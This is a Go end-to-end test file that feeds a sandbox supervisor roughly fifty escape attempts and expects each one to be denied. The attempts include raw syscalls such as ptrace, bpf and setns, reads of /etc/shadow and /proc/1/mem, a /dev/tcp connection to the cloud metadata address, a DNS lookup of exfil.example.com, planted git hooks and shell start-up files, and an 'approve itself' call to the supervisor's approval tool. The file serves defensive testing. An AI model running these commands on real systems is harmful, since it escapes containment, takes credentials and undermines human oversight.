package e2e

import (
	"os/exec"
	"runtime"
	"testing"
)

var goarch = runtime.GOARCH

func lookPath(name string) (string, error) { return exec.LookPath(name) }

func sandboxDenied(call string) []string { return []string{"sandbox.denied " + call} }

// py calls one system call and says whether it went through.
func py(call string) string {
	return `python3 -c '
import ctypes,os,struct,socket
l=ctypes.CDLL(None,use_errno=True)
def sc(*a):
    r=l.syscall(*a)
    return r
` + call + `'`
}

// escapeAttacks try to leave the sandbox, to blind the supervisor, or to talk.
var escapeAttacks = []attack{
	{name: "ptrace", script: py(`
pid=os.fork()
if pid==0:
    import time; time.sleep(2); os._exit(0)
r=sc(101,16,pid,0,0)
print("got-through" if r==0 else "no")
os.kill(pid,9)`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("ptrace")},
	{name: "process_vm_readv", script: py(`
b=ctypes.create_string_buffer(8); p=struct.pack("QQ",ctypes.addressof(b),8)
i=ctypes.create_string_buffer(p)
r=sc(310,os.getpid(),i,1,i,1,0)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: "a tracer's right, which an ordinary user may lack", records: sandboxDenied("process_vm_readv")},
	{name: "unshare of a user namespace", script: `unshare -Ur true && echo got-through`, word: "got-through", records: sandboxDenied("unshare")},
	{name: "clone into a user namespace", script: py(`
r=sc(56,0x10000000|17,0,0,0,0)
if r==0: os._exit(0)
print("got-through" if r>0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("clone")},
	{name: "mount", script: `unshare -Urm mount -t tmpfs none /tmp && echo got-through`, word: "got-through"},
	{name: "umount of a tripwire", script: py(`
r=sc(166,b".env",2)
print("got-through" if r==0 else "no")`), word: "got-through", needs: "python3", noBare: "nothing is mounted there bare", records: sandboxDenied("umount2")},
	{name: "bpf", script: py(`
b=ctypes.create_string_buffer(128)
r=sc(321,0,b,128)
e=ctypes.get_errno()
print("got-through" if r>=0 else "errno",e)`), word: "got-through", needs: "python3", noBare: "needs privilege bare as well", records: sandboxDenied("bpf")},
	{name: "userfaultfd", script: py(`
r=sc(323,1)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("userfaultfd")},
	{name: "keyctl", script: py(`
r=sc(250,0,-3,1)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("keyctl")},
	{name: "add_key", script: py(`
r=sc(248,b"user",b"x",b"y",1,-3)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("add_key")},
	{name: "perf_event_open", script: py(`
a=ctypes.create_string_buffer(struct.pack("IIQ",1,112,0)+b"\0"*96)
r=sc(298,a,0,-1,-1,0)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: "may be closed bare", records: sandboxDenied("perf_event_open")},
	{name: "setns", script: py(`
f=os.open("/proc/self/ns/net",0)
r=sc(308,f,0)
print("got-through" if r==0 else "no")`), word: "got-through", needs: "python3", noBare: "needs privilege bare", records: sandboxDenied("setns")},
	{name: "a seccomp listener of its own", script: py(`
sc(157,38,1,0,0,0)
f=struct.pack("HBBI",6,0,0,0x7fff0000); fb=ctypes.create_string_buffer(f)
p=ctypes.create_string_buffer(struct.pack("HxxxxxxQ",1,ctypes.addressof(fb)))
r=sc(317,1,8,p)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("seccomp")},
	{name: "open_by_handle_at", script: py(`
r=sc(304,-100,b"x"*64,0)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: "needs privilege bare", records: sandboxDenied("open_by_handle_at")},
	{name: "pidfd_getfd", script: py(`
p=sc(434,os.getpid(),0)
r=sc(438,p,0,0)
print("got-through" if r>=0 else "no")`), word: "got-through", needs: "python3", noBare: arch("amd64"), records: sandboxDenied("pidfd_getfd")},
	{name: "terminal injection", script: py(`
import fcntl
try:
    fcntl.ioctl(0,0x5412,b"x"); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no terminal here", records: sandboxDenied("ioctl")},
	{name: "mknod of a disk", script: `mknod disk b 8 0 && echo got-through`, word: "got-through", noBare: "needs root bare"},
	{name: "packet socket", script: py(`
try:
    socket.socket(17,3,0); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "needs root bare", records: sandboxDenied("socket")},
	{name: "vsock", script: py(`
try:
    socket.socket(40,1); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "not in every kernel", records: sandboxDenied("socket")},
	{name: "crypto socket", script: py(`
try:
    socket.socket(38,5,0); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "not in every kernel", records: sandboxDenied("socket")},
	{name: "netlink audit", script: py(`
try:
    socket.socket(16,3,9); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "not in every kernel", records: sandboxDenied("socket")},
	{name: "memory of another process", script: `dd if=/proc/1/mem of=/dev/null bs=1 count=1 && echo got-through`, word: "got-through", noBare: "not this row's"},
	{name: "processes outside", script: `ls -d /proc/[0-9]* | wc -l | awk '$1>40{print "got-through"}'; ls /proc/*/exe -l 2>/dev/null | grep -q systemd && echo got-through`, word: "got-through", noBare: "the bare machine may be as small"},
	{name: "signal to a process outside", script: `kill -0 $OUTSIDE_PID 2>/dev/null && echo got-through`, word: "got-through", noBare: "has a test of its own"},
	{name: "docker socket", script: `test -S /var/run/docker.sock && echo got-through`, word: "got-through", noBare: "not on this machine"},
	{name: "runtime directory", script: `ls /run/user 2>/dev/null | grep . && echo got-through`, word: "got-through", noBare: "not on this machine"},
	{name: "the desk", script: `find / -name 'control.sock' -o -name 'ledger.sock' 2>/dev/null | grep . && echo got-through`, word: "got-through", noBare: "outside it is the person's own"},
	{name: "the state directory", script: `ls "$XDG_STATE_HOME" "${HOME%/home}"/state 2>/dev/null | grep . && echo got-through`, word: "got-through", noBare: "outside it is the person's own"},
	{name: "the policy", script: `find / -name policy.yaml -path '*cs-e2e*' 2>/dev/null | grep . && echo got-through`, word: "got-through"},
	{name: "approve itself", script: `{ countersign requests; countersign sessions --json; countersign status; } 2>/dev/null | grep -E "[a-z0-9]{8}" && echo got-through`, word: "got-through", noBare: "not on PATH"},
	{name: "raw connect", script: py(`
s=socket.socket(); s.settimeout(3)
try: s.connect(("192.0.2.1",80)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 192.0.2.1"}},
	{name: "connect over IPv6", script: py(`
s=socket.socket(socket.AF_INET6); s.settimeout(3)
try: s.connect(("2001:db8::1",443)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 2001:db8::1"}},
	{name: "metadata address", script: `exec 3<>/dev/tcp/169.254.169.254/80 && echo got-through`, word: "got-through", noBare: "no network in tests", records: []string{"net.denied 169.254.169.254"}},
	{name: "datagram without connect", script: py(`
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try: s.sendto(b"x",("192.0.2.7",9)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 192.0.2.7"}},
	{name: "datagram by sendmsg", script: py(`
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try: s.sendmsg([b"x"],[],0,("192.0.2.8",9)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 192.0.2.8"}},
	{name: "TCP fast open", script: py(`
s=socket.socket()
try: s.sendto(b"x",0x20000000,("192.0.2.9",80)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 192.0.2.9"}},
	{name: "MPTCP", script: py(`
try:
    s=socket.socket(2,1,262); s.settimeout(3); s.connect(("192.0.2.10",80)); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "no network in tests", records: []string{"net.denied 192.0.2.10"}},
	{name: "DNS", script: `python3 -c 'import socket
try: socket.getaddrinfo("exfil.example.com",80,socket.AF_INET); print("got-through")
except OSError as e: print("no",e)'`, word: "got-through", needs: "python3", noBare: "no network in tests"},
	{name: "abstract socket of the host", script: py(`
s=socket.socket(socket.AF_UNIX)
try: s.connect("\0countersign-e2e-abstract"); print("got-through")
except OSError as e: print("no",e)`), word: "got-through", needs: "python3", noBare: "has a test of its own"},
	{name: "hooks of the repository", script: `echo 'echo pwned' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && echo got-through`, word: "got-through"},
	{name: "fsmonitor by config", script: `git config core.fsmonitor 'touch pwned'; for i in $(seq 50); do git config --get core.fsmonitor >/dev/null || exit 0; sleep .1; done; echo got-through`, word: "got-through"},
	{name: "a program that the home's git configuration names", script: `git config --file "$HOME/.gitconfig" core.fsmonitor 'echo x > fsm-ran; false'; git status >/dev/null 2>&1; test -e fsm-ran && echo got-through; rm -f "$HOME/.gitconfig"`, word: "got-through"},
	{name: "a start-up file of the shell", script: `echo 'echo got-through' > "$HOME/.bash_profile"; bash -lc true; rm -f "$HOME/.bash_profile"`, word: "got-through"},
	{name: "a start-up file by rename", script: `echo 'echo got-through' > "$HOME/x"; mv -f "$HOME/x" "$HOME/.profile"; bash -lc true; rm -f "$HOME/.profile"`, word: "got-through"},
	{name: "setuid program", script: `cp /bin/true su1; chmod 4755 su1; ./su1; grep -q '^NoNewPrivs:.1' /proc/self/status || echo got-through`, word: "got-through"},
	{name: "capabilities", script: `grep -q '^CapEff:.0000000000000000' /proc/self/status || echo got-through`, word: "got-through", noBare: "an ordinary user has none"},
	{name: "core dumps", script: `test "$(ulimit -c)" = 0 || echo got-through`, word: "got-through", noBare: "the limit may be 0 bare"},
	{name: "descriptors of the supervisor", script: `ls -l /proc/self/fd | grep -E 'ledger|control|fuse|seccomp' && echo got-through`, word: "got-through", noBare: "there are none bare"},
	{name: "writes to the toolchain", script: `touch /usr/bin/evil 2>/dev/null && echo got-through`, word: "got-through", noBare: "an ordinary user may not"},
	{name: "writes to /etc", script: `touch /etc/evil 2>/dev/null && echo got-through`, word: "got-through", noBare: "an ordinary user may not"},
	{name: "shadow file", script: `cat /etc/shadow | grep root && echo got-through`, word: "got-through", noBare: "an ordinary user may not"},
}

func TestEscapeAttacks(t *testing.T) {
	eachUser(t, func(t *testing.T, w *world) { w.runAttacks(t, escapeAttacks) })
}
